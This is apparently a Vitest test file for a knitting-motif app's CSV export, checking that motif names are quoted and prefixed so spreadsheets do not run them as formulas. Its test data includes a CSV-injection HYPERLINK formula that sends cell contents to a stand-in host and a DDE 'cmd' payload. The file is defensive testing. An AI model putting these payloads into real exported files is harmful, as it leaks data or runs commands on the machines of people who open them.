import { describe, expect, it } from 'vitest'
import { motifFromCsv, motifToCsv } from '#shared/motif/file'
import { readCsv } from '../../support/rfc4180'

// The motif CSV as a spreadsheet reads it: the name is one field, and no cell starts with a
// character that makes a spreadsheet run a formula (OWASP, "CSV Injection": = + - @ tab CR).

const rows = ['x..x', '.xx.']
const formulaStart = /^[=+\-@\t\r]/
const comment = 'first line = first row knitted; 0 = main colour; 1 = contrast colour'

describe('the test\'s CSV reader', () => {
  it.each([
    // RFC 4180 §2, rules 1, 2, 5, 6 and 7 (published).
    ['aaa,bbb,ccc\r\nzzz,yyy,xxx\r\n', [['aaa', 'bbb', 'ccc'], ['zzz', 'yyy', 'xxx']]],
    ['aaa,bbb,ccc\r\nzzz,yyy,xxx', [['aaa', 'bbb', 'ccc'], ['zzz', 'yyy', 'xxx']]],
    ['"aaa","bbb","ccc"\r\n', [['aaa', 'bbb', 'ccc']]],
    ['"aaa","b\r\nbb","ccc"\r\nzzz,yyy,xxx', [['aaa', 'b\r\nbb', 'ccc'], ['zzz', 'yyy', 'xxx']]],
    ['"aaa","b""bb","ccc"', [['aaa', 'b"bb', 'ccc']]],
    // Empty fields, LF line ends, a quote inside an unquoted field kept (common practice).
    ['a,,\nb', [['a', '', ''], ['b']]],
    ['say "hi",x', [['say "hi"', 'x']]],
  ])('reads %j', (text, records) => {
    expect(readCsv(text)).toEqual(records)
  })
})

describe('motif CSV and spreadsheet formulas', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`],
    ['+1', `'+1`],
    ['-1', `'-1`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\tTab first', `'\tTab first`],
    ['\rCR first', `'\rCR first`],
    ['Pebble, =1+1, check', 'Pebble, =1+1, check'],
    ['Say "hi",=cmd|\' /C calc\'!A0', 'Say "hi",=cmd|\' /C calc\'!A0'],
    ['Quote at the end "', 'Quote at the end "'],
    ['Line one\n=2+2', 'Line one\n=2+2'],
    ['Windows\r\n@line', 'Windows\r\n@line'],
    // Our own prefix must not be confused with a name that starts with an apostrophe.
    ['\'=already guarded', `''=already guarded`],
    ['\'quoted\'', `''quoted'`],
    ['Pebble check', 'Pebble check'],
  ])('the name %j is one field %j, no cell starts a formula, and it reads back the same', (name, field) => {
    const csv = motifToCsv(name, rows)
    const records = readCsv(csv)
    expect(records[0]).toEqual(['# floatwise motif', field, comment])
    expect(records.slice(1).filter(r => r.length > 1)).toEqual([['1', '0', '0', '1'], ['0', '1', '1', '0']])
    for (const cell of records.flat()) expect(cell).not.toMatch(formulaStart)
    expect(motifFromCsv(csv)).toEqual({ name, rows: ['1001', '0110'] })
  })

  it('still reads the header files exported before the name was quoted for CSV', () => {
    const old = '# floatwise motif "Round \\"trip\\", =1", first line = first row knitted, 0 = main colour, 1 = contrast colour\n1,0\n0,1\n'
    expect(motifFromCsv(old)).toEqual({ name: 'Round "trip", =1', rows: ['10', '01'] })
  })

  it('counts lines after a name that spans lines as a text editor does', () => {
    const csv = motifToCsv('Two\nlines', ['x.', '.x']).replace(/0,1\n$/, '0,2\n')
    expect(() => motifFromCsv(csv)).toThrow('line 4, column 2: expected 0 or 1, got 2')
  })

  it('names a header whose quoted name is never closed', () => {
    expect(() => motifFromCsv('# floatwise motif,"Open\n1,0\n')).toThrow(/line 1: the name's closing quote is missing/)
  })
})
